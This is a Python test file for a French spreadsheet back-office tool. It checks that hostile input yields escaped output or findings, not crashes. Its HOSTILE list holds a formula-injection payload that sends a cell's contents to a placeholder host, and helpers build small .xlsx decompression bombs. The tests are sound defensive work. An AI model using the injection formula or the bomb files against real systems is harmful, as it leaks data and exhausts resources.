"""Hostile input is normal input: findings or escaped output, never a traceback."""
import csv
import io
import time
import tracemalloc
import zipfile

import openpyxl
import pytest
from click.testing import CliRunner

from backoffice.cli import cli
from generators.call_list import write_call_list
from generators.files import csv_bytes
from generators.kit_orders import orders_csv
from rules.kits import KitOrder
from sheets_sync import MemoryBackend, Workbook
from sheets_sync.changes import CELL_MAX, ChangeSet
from sheets_sync.errors import WorkbookError
from sheets_sync.xlsx_backend import XlsxBackend
from tests.factories import make_tabs, write_xlsx
from tests.mandates_helpers import cell, docx_text, ok, run, staffed

HOSTILE = ['=HYPERLINK("http://x.invalid/?d="&A1,"Cliquez")', "+33 6 12 34 56 78", "-2+3", "@SUM(A1:A2)",
           "\t=1", "\r=1", "normal"]


def _cells(data: bytes, delimiter=";"):
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter) for c in row]


@pytest.mark.parametrize("value", HOSTILE)
def test_every_csv_we_write_escapes_formula_leads(tmp_path, value):
    import datetime as dt

    outputs = {
        "csv_bytes": csv_bytes(["a"], [[value]]),
        "call list": write_call_list(tmp_path / "appels.csv", [[value, value, value, value, "09:00", 5]]).read_bytes(),
        "kit orders": orders_csv([KitOrder(value, value, value, value, value, value, value, value,
                                           dt.date(2026, 12, 1), "S1", dt.date(2026, 12, 2))]),
    }
    for name, data in outputs.items():
        for text in _cells(data):
            assert not text.startswith(("=", "+", "-", "@", "\t", "\r")), (name, text)
        if value != "normal":
            assert "'" + value in _cells(data), name


def test_a_300_character_mission_number_gives_a_safe_file_and_the_full_number_inside(tmp_path):
    key = "M" + "9" * 299
    backend = MemoryBackend(make_tabs(missions=[staffed(**{"N° mission": key})]))
    result = ok(run(backend, tmp_path))
    [path] = result.files
    assert len(path.name) < 100 and path.name.startswith("M999") and path.exists()
    assert key in docx_text(path)
    assert cell(backend, key, "Mandat") == "Généré"


def test_a_merged_job_cell_is_skipped_with_its_range_and_the_rest_goes_on(tmp_path):
    path = tmp_path / "IDF.xlsx"
    write_xlsx(path, make_tabs(missions=[{"N° mission": "M1", "Date": "02/12/2026"},
                                         {"N° mission": "M2", "Date": "02/12/2026"}]))
    book = openpyxl.load_workbook(path)
    sheet = book["Missions"]
    column = [c.value for c in sheet[1]].index("Suggestions") + 1
    letter = openpyxl.utils.get_column_letter(column)
    sheet.merge_cells(f"{letter}2:{letter}3")
    book.save(path)
    result = CliRunner().invoke(cli, ["--workbook", str(path), "--now", "2026-11-29 09:30", "suggest"])
    assert result.exit_code in (0, 1), result.output
    assert "Traceback" not in result.output
    text = " ".join(result.output.split())
    assert f"Missions!{letter}3" in text and f"cellule fusionnée (Missions!{letter}2:{letter}3)" in text
    sheet = openpyxl.load_workbook(path)["Missions"]
    assert sheet[f"{letter}2"].value  # the top-left cell is written


def test_a_date_of_the_year_1000_is_a_finding_on_its_cell_not_a_crash(tmp_path):
    path = tmp_path / "IDF.xlsx"
    write_xlsx(path, make_tabs(missions=[{"N° mission": "M1", "Date": "01/01/1000"},
                                         {"N° mission": "M2", "Date": "02/12/2026"}]))
    result = CliRunner().invoke(cli, ["--workbook", str(path), "--now", "2026-11-29 09:30", "--dry-run", "check"])
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    text = " ".join(result.output.split())
    assert "Missions!G2 date « 01/01/1000 » hors limites (attendu une année de 1900 à 2200)" in text


def _bomb(path, size, long_text=False):
    """A tiny .xlsx whose shared string unpacks to ``size`` characters."""
    write_xlsx(path, make_tabs())
    with zipfile.ZipFile(path) as src:
        parts = {n: src.read(n) for n in src.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            if name != "xl/sharedStrings.xml":
                out.writestr(name, data)
        with out.open("xl/sharedStrings.xml", "w") as part:
            part.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>')
            chunk = b"a" * 1_000_000
            for _ in range(size // len(chunk)):
                part.write(chunk)
            part.write(b"a" * (size % len(chunk)))
            part.write(b"</t></si></sst>")


def test_a_workbook_that_would_unpack_beyond_the_limit_is_refused_unread(tmp_path):
    path = tmp_path / "bombe.xlsx"
    _bomb(path, 30_000_000)
    assert path.stat().st_size < 200_000
    tracemalloc.start()
    started = time.perf_counter()
    with pytest.raises(WorkbookError) as err:
        Workbook(XlsxBackend(path, max_unpacked=20_000_000)).load()
    elapsed = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert str(err.value).startswith(f"{path} : classeur refusé, il occuperait 30 Mo une fois décompressé "
                                     "(limite 20 Mo, réglage limits.xlsx_unpacked_mb). Rien n'a été lu.")
    assert elapsed < 1.0 and peak < 50_000_000


def test_a_cell_over_excels_limit_is_refused_before_parsing(tmp_path):
    path = tmp_path / "long.xlsx"
    _bomb(path, 40_000)
    with pytest.raises(WorkbookError) as err:
        Workbook(XlsxBackend(path)).load()
    assert "une cellule contient un texte de plus de 32 767 caractères" in str(err.value)


def test_a_50000_character_value_is_cut_to_what_a_cell_holds():
    backend = MemoryBackend(make_tabs(missions=[{"N° mission": "M1"}]))
    wb = Workbook(backend)
    data = wb.load()
    changes = ChangeSet()
    changes.add("suggest", data["Missions"].change("M1", "Suggestions", "x" * 60_000))
    changes.rewrite("check", "Anomalies", [["erreur", "r", "Missions", "Missions!A2", "M1", "y" * 70_000, ""]])
    wb.apply(changes, __import__("datetime").datetime(2026, 11, 29, 9, 0))
    written = backend.cell("Missions", "O2")
    assert len(written) == CELL_MAX and written.endswith(" […]")
    assert len(backend.tabs["Anomalies"][1][5]) == CELL_MAX
    assert all(len(str(v)) <= CELL_MAX for row in backend.tabs["Journal"] for v in row)
    again = wb.apply(ChangeSet(owned=dict(changes.owned)), __import__("datetime").datetime(2026, 11, 29, 9, 5))
    assert again.journal_rows == 0  # the cut message is recognised: nothing rewritten


@pytest.mark.filterwarnings("ignore:Cell .* is marked as a date")  # openpyxl, reading the file back here
def test_a_date_or_duration_far_out_of_range_is_a_finding_on_its_cell_and_the_rest_is_read(tmp_path, capfd):
    # calamine panics on these cells (python-calamine issue 139); the read falls back for that sheet
    path = write_xlsx(tmp_path / "IDF.xlsx", make_tabs(missions=[
        {"N° mission": "M1"}, {"N° mission": "M2"}, {"N° mission": "M3", "Date": "30/11/2026"}]))
    book = openpyxl.load_workbook(path)
    sheet = book["Missions"]
    sheet["G2"].value, sheet["G2"].number_format = -1e13, "DD/MM/YYYY"
    sheet["H3"].value, sheet["H3"].number_format = 1e9, "[h]:mm"
    book.save(path)
    result = CliRunner().invoke(cli, ["--workbook", str(path), "--now", "2026-11-27 08:00", "check"])
    assert result.exit_code == 1, result.output
    rows = list(openpyxl.load_workbook(path)["Anomalies"].iter_rows(min_row=2, values_only=True))
    unreadable = sorted(r[3] for r in rows if r[1] == "donnees.cellule_illisible")
    assert unreadable == ["Missions!G2", "Missions!H3"]
    assert any(r[4] == "M3" for r in rows)  # the other mission was checked (« sans salarié »)
    assert "panicked" not in capfd.readouterr().err  # Rust's message is not shown to a person


def test_files_for_colleagues_follow_the_umask(tmp_path):
    import os

    from generators.files import atomic_write

    old = os.umask(0o002)
    try:
        made = atomic_write(tmp_path / "kits" / "commandes.csv", b"x")
        assert made.stat().st_mode & 0o777 == 0o664  # a group-shared folder's files stay shared
        os.chmod(made, 0o640)
        atomic_write(made, b"y")  # a replaced file keeps the mode people gave it
        assert made.stat().st_mode & 0o777 == 0o640
    finally:
        os.umask(old)


@pytest.mark.parametrize("command, content", [
    (["presence", "--ivr-log"], "date_appel;numero_appelant;code_saisi;resultat" + "x" * 140_000 + "\n"),
    (["presence", "--ivr-log"], "date_appel;numero_appelant;code_saisi;resultat\n27/11/2026 07:50;06;" + "1" * 200_000
     + ";OK\n"),
    (["kits", "import"], "N° commande;Statut;N° suivi;Date\nK-IDF-M1;Livré;" + "T" * 204_800 + ";27/11/2026\n"),
])
def test_an_oversized_field_in_a_dropped_csv_is_a_french_message(tmp_path, command, content):
    book = write_xlsx(tmp_path / "IDF.xlsx", make_tabs())
    dropped = tmp_path / "fichier.csv"
    dropped.write_text(content, encoding="utf-8")
    result = CliRunner().invoke(cli, ["--workbook", book, "--now", "2026-11-27 08:00", *command, str(dropped)])
    assert result.exit_code == 2, result.output
    assert "fichier.csv, ligne" in result.output and "un champ de plus de 128 Ko" in result.output
    assert "Traceback" not in result.output and "field larger" not in result.output


def _inline_bomb(path, size, text=b"a"):
    """A small .xlsx whose Missions sheet holds one inline string of ``size`` bytes."""
    write_xlsx(path, make_tabs())
    with zipfile.ZipFile(path) as src:
        parts = {n: src.read(n) for n in src.namelist()}
    from sheets_sync.xlsx_package import sheet_parts

    with zipfile.ZipFile(path) as src:
        target = sheet_parts(src)["Missions"]
    xml = parts[target]
    cell = b'<c r="AZ2" t="inlineStr"><is><t>'  # in row 2, in a column without a header
    first, second, tail = xml.split(b"</row>", 2)
    head = first + b"</row>" + second
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            if name != target:
                out.writestr(name, data)
        with out.open(target, "w") as part:
            part.write(head + cell)
            chunk = text * (1_000_000 // len(text))
            for _ in range(size // len(chunk)):
                part.write(chunk)
            part.write(text * ((size % len(chunk)) // len(text)))
            part.write(b"</t></is></c></row>" + tail)


@pytest.mark.parametrize("size, text", [(120_000_000, b"a"), (40_000, "é".encode())])
def test_an_inline_string_over_excels_limit_is_refused_before_parsing_in_bounded_memory(tmp_path, size, text):
    """A 120 MB inline string in a file of a few hundred KB (issue 22): refused before calamine
    would hold it, in bounded memory; 40,000 characters of two bytes each too."""
    path = tmp_path / "inline.xlsx"
    _inline_bomb(path, size if len(text) == 1 else size * len(text), text)
    assert path.stat().st_size < 400_000
    tracemalloc.start()
    with pytest.raises(WorkbookError) as err:
        Workbook(XlsxBackend(path)).load()
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert "une cellule contient un texte de plus de 32 767 caractères" in str(err.value)
    assert peak < 30_000_000


def test_an_inline_string_within_the_limit_reads(tmp_path):
    path = tmp_path / "inline-ok.xlsx"
    _inline_bomb(path, 30_000, "é".encode())  # 15,000 characters: fine
    data = Workbook(XlsxBackend(path)).load()
    assert "M0001" in data["Missions"].df.index
